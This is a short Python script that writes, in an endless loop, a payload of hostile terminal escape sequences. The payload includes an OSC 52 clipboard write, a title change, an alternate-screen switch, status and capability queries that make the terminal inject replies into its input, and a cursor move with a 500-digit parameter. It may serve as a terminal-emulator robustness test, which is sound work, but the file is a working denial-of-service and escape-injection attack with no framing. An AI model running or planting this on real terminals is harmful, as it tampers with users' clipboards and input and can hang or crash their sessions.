"""Floods the terminal with escape sequences without end."""
import os
piece = (b"\x1b]52;c;aGFjaw==\x07\x1b]0;title\x07\x1b[?1049h\x1b[6n\x1bP+q544e\x1b\\\x1b[31m\x9b5n" + b"\x1b[" + b"9" * 500 + b"A") * 100
while True:
    os.write(1, piece)
